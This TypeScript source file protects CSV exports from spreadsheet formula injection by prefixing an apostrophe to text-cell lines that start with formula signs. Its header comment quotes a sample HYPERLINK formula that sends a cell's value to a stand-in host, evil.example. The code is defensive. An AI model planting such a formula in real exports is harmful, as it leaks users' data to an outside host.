import type { ExportCell, ExportColumnType } from './table-model';

/*
 * CSV injection (OWASP "CSV Injection"): a spreadsheet opening a CSV file evaluates a cell that starts with = + - @
 * as a formula, so a note such as =HYPERLINK("http://evil.example?"&A1, "klik") typed by anyone who can write a
 * comment would run on the team lead's machine. Tab and carriage return are on the list because Excel skips them
 * before looking for the formula sign. The remedy is to make the cell start with an apostrophe, which Excel takes as
 * "this is text"; the text itself stays readable.
 *
 * Every line start is looked at, not only the first: a tool that reads the file line by line, or a spreadsheet
 * that splits a pasted cell into rows, sees each line of a multi-line note as a cell of its own.
 *
 * Only text cells are touched. A number cell is written by us from a number, so "-1,5" there is a negative number,
 * never a formula, and must stay a number.
 */

const formulaTriggers: ReadonlySet<string> = new Set(['=', '+', '-', '@', '\t', '\r']);

/** A line break (CRLF, LF or CR) followed by a formula sign; a CR there is a line break, not the sign. */
const triggerAfterLineBreak = /(\r\n|\n|\r)(?=[=+\-@\t])/g;

/** The text with an apostrophe before each line that starts with = + - @ or tab (and before a leading CR). */
export function neutraliseFormula(text: string): string {
  const lines = text.replace(triggerAfterLineBreak, "$1'");
  return lines.length > 0 && formulaTriggers.has(lines[0]!) ? `'${lines}` : lines;
}

/** A cell made safe for a spreadsheet: text cells neutralised, every other type (numbers, dates, booleans) as is. */
export function neutraliseCell(cell: ExportCell, type: ExportColumnType): ExportCell {
  return type === 'text' && typeof cell === 'string' ? neutraliseFormula(cell) : cell;
}
